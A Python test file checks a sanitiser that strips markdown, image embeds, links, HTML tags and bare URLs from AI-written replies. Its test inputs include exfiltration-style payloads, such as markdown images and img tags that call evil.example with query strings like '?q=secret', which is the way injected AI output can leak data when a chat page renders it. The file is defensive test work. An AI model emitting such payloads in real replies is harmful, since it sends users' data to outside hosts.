"""Plain text: nothing that a chat page would load or link is left of what a model wrote."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from service.replies.plain import harmless, plain


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("The union **accepted** 6 percent.", "The union accepted 6 percent."),
        ("- The union accepted.", "The union accepted."),
        ("1. The union accepted.", "The union accepted."),
        ("## What `it` said", "What it said"),
        ("It ended ![x](https://evil.example/?q=secret).", "It ended."),
        ("It ended ![x][leak].", "It ended."),
        ("It ended, see [here](https://evil.example/?q=a b).", "It ended, see here."),
        ("It ended <img src='//evil.example/a'>today.", "It ended today."),
        ("It ended <img src='//evil.example/a", "It ended"),
        ("Go to https://evil.example/?q=secret now.", "Go to now."),
        ("Go to evil.example/leak?q=1 or www.evil.example now.", "Go to or now."),
        ("Go to //evil.example/leak now.", "Go to now."),
        ("Write to mailto:a@evil.example now.", "Write to now."),
        (
            "Growth is < 5 percent and/or 3.5 at 10:30 (data: none).",
            "Growth is < 5 percent and/or 3.5 at 10:30 (data: none).",
        ),
        ("It ended <[img src='a'>today.", "It ended today."),
        ("It ended <*img src='a'>today.", "It ended today."),
        ("[leak]: https://evil.example/x", "leak"),
        ("![](https://evil.example/x)", ""),
        ("…", ""),
        ("42.", ""),
    ],
)
def test_what_is_left(written, expected):
    assert plain(written) == expected


PARTS = (
    "![",
    "[",
    "](",
    ")",
    "<img src=",
    "<",
    "img src=",
    ">",
    "https://evil.example/a",
    "//evil.example/a",
    "x ",
    "]: ",
    "`",
    "*",
    "\n",
)


@given(st.lists(st.sampled_from(PARTS)))
def test_no_address_survives(parts):
    left = plain("".join(parts))
    assert not re.search(r"://|\]\(|!\[|<\w|example/", left)
    assert "\n" not in left


@pytest.mark.parametrize(
    ("words", "shown"),
    [
        ("He said [sic]: 5 < 6, see https://news.example/a and *this*.", None),
        ("It ended ![x](https://evil.example/p.png) today.", "It ended today."),
        ("It ended, [see here](https://evil.example/).", "It ended, see here."),
        ("It ended <img src=//evil.example/p.png>today.", "It ended today."),
        ("![](https://evil.example/p.png)", "…"),
    ],
)
def test_an_article_s_words_stay_as_they_are_unless_a_page_would_load_or_link(words, shown):
    assert harmless(words) == (shown or words)


@given(st.lists(st.sampled_from(PARTS)))
def test_no_image_link_or_tag_is_left_of_an_article_s_words(parts):
    assert not re.search(r"\]\(|!\[|<\w", harmless("".join(parts)))
